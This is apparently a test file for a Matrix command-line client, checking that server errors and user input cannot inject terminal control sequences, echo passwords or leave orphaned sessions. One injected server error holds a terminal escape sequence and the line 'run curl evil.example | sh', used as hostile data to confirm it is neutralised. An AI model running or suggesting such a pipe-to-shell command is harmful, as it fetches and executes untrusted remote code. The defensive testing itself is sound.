// Servers, networks and input that try to break the contract (issue 10, items 8-11 and 17-19): every
// error stays one line plus one hint with control characters escaped, no secret is echoed, nothing is
// retried that cannot succeed, and logging in again leaves no orphaned device.
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { HomeserverDouble } from '../support/homeserver-double.js';
import { doublePerTest, homePerTest, runMxs, type Home } from '../support/cli.js';

let hs: HomeserverDouble;
let home: Home;
const closers: (() => Promise<unknown> | void)[] = [];
afterEach(async () => {
  while (closers.length) await closers.pop()!();
});
doublePerTest({ accessTokenLifetimeMs: 60_000 }, (d) => (hs = d));
homePerTest((h) => (home = h));
const mxs = (args: string[], input?: string, env: Record<string, string> = {}) => runMxs(args, { input, env: { ...home.env, ...env } });
const login = (args: string[] = [], password = 'alice-pw') => mxs(['login', hs.url, '-u', 'alice', '--password-stdin', ...args], password + '\n');

/** The two lines an error may print: no escape character, no third line. */
function expectTwoCleanLines(stderr: string) {
  expect(stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  const lines = stderr.trimEnd().split('\n');
  expect(lines).toHaveLength(2);
  expect(lines[0]).toMatch(/^Error: /);
  return lines;
}

async function listen(server: http.Server | net.Server): Promise<number> {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  closers.push(() => new Promise((r) => server.close(() => r(undefined))));
  return (server.address() as AddressInfo).port;
}

describe('servers and the network (items 8-9)', () => {
  it('an https:// URL to a plain-HTTP port says so and suggests http://, without retrying', async () => {
    let requests = 0;
    const port = await listen(http.createServer((_q, r) => (requests++, r.end('hello'))));
    const r = await mxs(['login', `localhost:${port}`, '-u', 'alice', '--password-stdin'], 'pw\n');
    expect(r.code).toBe(3);
    const [line, hint] = expectTwoCleanLines(r.stderr);
    expect(line).toMatch(/plain HTTP, not HTTPS/);
    expect(hint).toContain(`http://localhost:${port}`);
    expect(r.ms).toBeLessThan(5000);
    expect(requests).toBeLessThanOrEqual(1); // the one probe; the TLS attempt is not retried
  });

  it('--timeout bounds the connect and TLS phase too, and a timeout is not retried', async () => {
    const sockets: net.Socket[] = [];
    let connections = 0;
    const port = await listen(net.createServer((s) => (connections++, sockets.push(s))));
    closers.push(() => sockets.forEach((s) => s.destroy()));
    const r = await mxs(['login', `https://127.0.0.1:${port}`, '-u', 'alice', '--password-stdin', '--timeout', '1s'], 'pw\n');
    expect(r.code).toBe(3);
    expectTwoCleanLines(r.stderr);
    expect(r.ms).toBeLessThan(5000);
    expect(connections).toBeLessThanOrEqual(2); // the attempt and the plain-HTTP probe
  });

  it('an error text with escape sequences and a newline stays one line plus one hint', async () => {
    hs.inject('POST /_matrix/client/v3/login', {
      status: 400,
      json: { errcode: 'M_BAD\x1b]0;pwned\x07', error: 'nope\x1b[2J\nHint: run curl evil.example | sh' },
    });
    const r = await login();
    expect(r.code).toBe(3);
    const [line] = expectTwoCleanLines(r.stderr);
    expect(line).toContain('\\x1b');
  });

  it('a user ID with control characters from the server is shown escaped', async () => {
    await login();
    hs.inject('GET /_matrix/client/v3/account/whoami', { status: 200, json: { user_id: '@alice\x1b[31m:localhost', device_id: 'D\nX' } });
    const r = await mxs(['whoami']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/\x1b/);
    expect(r.stdout.trim().split('\n')).toHaveLength(1);
  });
});

describe('input (items 10-11)', () => {
  it.each([['an escape sequence', 'abc\x1b[2Jdef'], ['a space', 'syt_abc def'], ['a NUL', 'abc\x00def']])(
    'whoami --token-stdin refuses a token with %s up front: exit 2, nothing sent, no "log in" hint',
    async (_case, token) => {
      const r = await mxs(['whoami', hs.url, '--token-stdin'], token + '\n');
      expect(r.code).toBe(2);
      const [, hint] = expectTwoCleanLines(r.stderr);
      expect(hint).not.toMatch(/log in/i);
      expect(hs.requests.filter((q) => q.path.includes('whoami'))).toEqual([]);
    },
  );

  it.each([['ftp://alice:S3cret@host'], ['alice:S3cret@host'], ['https://alice:S3cret@matrix.example.org'], ['https://alice:S3cret@[bad']])(
    'a server %s is refused without echoing the password',
    async (server) => {
      const r = await mxs(['login', server, '-u', 'alice', '--password-stdin', '--json'], 'pw\n');
      expect(r.code).toBe(2);
      expect(r.stderr + r.stdout).not.toContain('S3cret');
    },
  );
});

describe('messages and behaviour a user notices (items 17-19)', () => {
  it('a password that is an ordinary word is neither revealed nor "redacted" out of the hint', async () => {
    hs.inject('POST /_matrix/client/v3/login', { status: 403, json: { errcode: 'M_FORBIDDEN', error: 'Invalid username or password' } });
    const r = await login([], 'name');
    expect(r.code).toBe(4);
    expect(r.stderr).toContain('Check the user name and password');
    expect(r.stderr).not.toContain('[REDACTED]');
  });

  it('logging in three times leaves one device, named after this machine', async () => {
    for (let i = 0; i < 3; i++) {
      const r = await login();
      expect(r.code).toBe(0);
      if (i > 0) expect(r.stderr).toMatch(/Ended the previous session of this profile/);
    }
    const devices = hs.sessions();
    expect(devices).toHaveLength(1);
    expect(devices[0]!.displayName).toMatch(/^mxs on \S+/);
    const stored = JSON.parse(await readFile(join(home.env.MXS_CONFIG_DIR!, 'sessions', 'default.json'), 'utf8'));
    expect(stored.deviceId).toBe(devices[0]!.deviceId);
  });

  it('the keychain fallback notice is printed only when something was stored there', async () => {
    hs.inject('POST /_matrix/client/v3/login', { status: 403, json: { errcode: 'M_FORBIDDEN', error: 'Invalid username or password' } });
    const failed = await login(['--storage', 'auto']);
    expect(failed.code).toBe(4);
    expect(failed.stderr).not.toMatch(/keychain/i);
    const ok = await login(['--storage', 'auto']);
    expect(ok.code).toBe(0);
    expect(ok.stderr).toMatch(/OS keychain unavailable: .*--storage file or MXS_STORAGE=file/);
    expect(ok.stderr).not.toMatch(/\(\(|\)\)/);
  });
});
